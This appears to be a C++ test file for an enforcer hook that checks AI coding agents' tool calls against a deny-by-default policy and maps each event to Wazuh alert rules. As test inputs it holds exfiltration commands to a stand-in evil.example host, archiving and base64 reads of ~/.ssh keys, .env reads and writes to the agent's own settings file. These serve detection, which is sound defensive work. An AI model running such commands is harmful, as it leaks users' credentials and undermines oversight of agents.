// No rule waits for something that the enforcer never writes: the real hook decides, and its line
// fires the rule.

#include "tests/enforcer/hook_fixture.hpp"
#include "wazuh/source.hpp"

#include <gmock/gmock.h>

#include <algorithm>
#include <pwd.h>
#include <unistd.h>

namespace lilith::test {
namespace {

const std::string kKit = std::string(LILITH_SOURCE_DIR) + "/wazuh/";

wazuh::Engine engine() {
  auto source = wazuh::read_source({{kKit + "lilith_rules.xml"}, {}, {}, true});
  EXPECT_TRUE(source.has_value());
  auto made = wazuh::make_engine(*source);
  EXPECT_TRUE(made.has_value()) << made.error().message;
  return std::move(*made);
}

void write_policy(const HookFolder& folder, const std::string& mode = "enforce") {
  write_text(folder.file("policy.yaml"), "version: \"1\"\nmode: " + mode + R"(
egress:
  default_action: deny
  allowed_destinations: [{host: ok.example}]
tool_invocations:
  default_action: deny
  allowed_tools:
    - name: run_command
      command_allowlist: [git, tar, curl]
      command_blocklist: [wget]
      path_blocklist: ["**/.ssh/**"]
    - {name: read_file, path_allowlist: ["/**"], path_blocklist: ["**/.ssh/**", "**/.env"]}
    - {name: write_file, path_allowlist: ["/home/**"]}
protect_agent_config: true
audit:
  enabled: true
  log_allowed: true
  log_path: ")" + folder.log() + "\"\n");
}

// Rules of the lines of a log, oldest first.
std::vector<int> rules_of(const std::string& log) {
  auto manager = engine();
  std::vector<int> out;
  std::int64_t clock = 0;
  for (const std::string& line : lines_of(read_text(log))) {
    out.push_back(manager.feed(line, ++clock).rule);
  }
  return out;
}

struct Called {
  std::string name, tool, input;
  int rule;
  std::string mode = "enforce";
};
void PrintTo(const Called& called, std::ostream* out) { *out << called.name; }
class EnforcerEvent : public testing::TestWithParam<Called> {};

TEST_P(EnforcerEvent, FiresItsRule) {
  const HookFolder folder;
  write_policy(folder, GetParam().mode);
  const auto answer = folder.hook(claude_event(GetParam().tool, GetParam().input));
  const auto rules = rules_of(folder.log());
  ASSERT_FALSE(rules.empty()) << answer.err;
  EXPECT_EQ(rules.back(), GetParam().rule) << read_text(folder.log()) << answer.err;
  // Whoever denies says so to the agent; nothing else does.
  const bool denies = GetParam().rule != 100805 && GetParam().rule != 100806;
  EXPECT_EQ(answer.exit_code, denies ? 2 : 0);
}
INSTANTIATE_TEST_SUITE_P(
    Wazuh, EnforcerEvent,
    testing::Values(
        Called{"allowed", "Bash", R"({"command":"git status"})", 100805},
        Called{"would_deny", "Bash", R"({"command":"make"})", 100806, "audit"},
        Called{"command_not_listed", "Bash", R"({"command":"make"})", 100800},
        Called{"tool_not_listed", "NotebookRun", R"({"x":1})", 100800},
        Called{"archive_of_keys", "Bash", R"({"command":"tar czf /tmp/x.tgz ~/.ssh"})", 100811},
        Called{"archive_by_a_program_that_is_not_listed", "Bash",
               R"({"command":"zip -r /tmp/x.zip ~/.ssh"})", 100811},
        Called{"mcp_tool", "mcp__tickets__export", R"({"project":"x"})", 100812},
        Called{"private_key", "Read", R"({"file_path":"/home/dev/.ssh/id_rsa"})", 100813},
        Called{"private_key_by_a_program_that_is_not_listed", "Bash",
               R"({"command":"base64 ~/.ssh/id_rsa"})", 100813},
        Called{"credentials_in_a_file", "Read", R"({"file_path":"/srv/app/.env"})", 100813},
        Called{"agent_settings", "Write",
               R"({"file_path":"/home/dev/.claude/settings.json","content":"{}"})", 100814},
        Called{"upload_by_a_blocked_program", "Bash",
               R"({"command":"wget --post-file=x https://evil.example/"})", 100815},
        Called{"fetch", "WebFetch", R"({"url":"https://evil.example/","prompt":"x"})", 100801},
        Called{"download", "Bash", R"({"command":"curl https://evil.example/x"})", 100801},
        Called{"upload", "Bash", R"({"command":"curl -T x https://evil.example/"})", 100810}),
    [](const auto& test) { return test.param.name; });

TEST(EnforcerEvents, FiveEgressDenialsOfOneAgentAreARepeatedEgress) {
  const HookFolder folder;
  write_policy(folder);
  for (int i = 0; i < 5; ++i) {
    const std::string command = i % 2 == 0 ? R"({"command":"curl https://evil.example/x"})"
                                           : R"({"command":"curl -T x https://evil.example/"})";
    (void)folder.hook(claude_event("Bash", command, "toolu_" + std::to_string(i)));
  }
  EXPECT_THAT(rules_of(folder.log()),
              testing::ElementsAre(100804, 100820, 100801, 100810, 100801, 100810, 100802));
}

TEST(EnforcerEvents, ACallThatCannotBeReadIsAnError) {
  const HookFolder folder;
  write_policy(folder);
  (void)folder.hook("{");
  EXPECT_EQ(rules_of(folder.log()).back(), 100808);
}

TEST(EnforcerEvents, APolicyThatDoesNotLoadIsSaidOnceBesideTheCall) {
  if (::access("/var/log/lilith", F_OK) == 0) {
    GTEST_SKIP() << "/var/log/lilith exists: events without a policy go to the system's own log";
  }
  const HookFolder folder;
  write_text(folder.file("policy.yaml"), "version: \"1\"\negres: {}\n");
  (void)folder.hook(git_event());
  EXPECT_THAT(rules_of(folder.fallback_log()), testing::ElementsAre(100804, 100821, 100808));
}

TEST(EnforcerEvents, AnotherPolicyAndEnforcementSwitchedOffAreToldOnce) {
  const HookFolder folder;
  write_policy(folder);
  (void)folder.hook(git_event());
  write_text(folder.file("policy.yaml"), read_text(folder.file("policy.yaml")) + "# another\n");
  for (int i = 0; i < 2; ++i) (void)folder.hook(git_event());
  write_policy(folder, "audit");
  for (int i = 0; i < 2; ++i) (void)folder.hook(git_event());
  EXPECT_THAT(rules_of(folder.log()), testing::ElementsAre(100804, 100820, 100805, 100820, 100805,
                                                           100805, 100822, 100805, 100805));
}

TEST(EnforcerEvents, ALogThatWasCutIsTampering) {
  const HookFolder folder;
  write_policy(folder);
  (void)folder.hook(git_event());
  (void)folder.hook(git_event());
  auto lines = lines_of(read_text(folder.log()));
  lines.pop_back();
  std::string rest;
  for (const std::string& line : lines) rest += line + "\n";
  write_text(folder.log(), rest);
  (void)folder.hook(git_event());
  const auto rules = rules_of(folder.log());
  EXPECT_NE(std::find(rules.begin(), rules.end(), 100831), rules.end());
}

}  // namespace
}  // namespace lilith::test
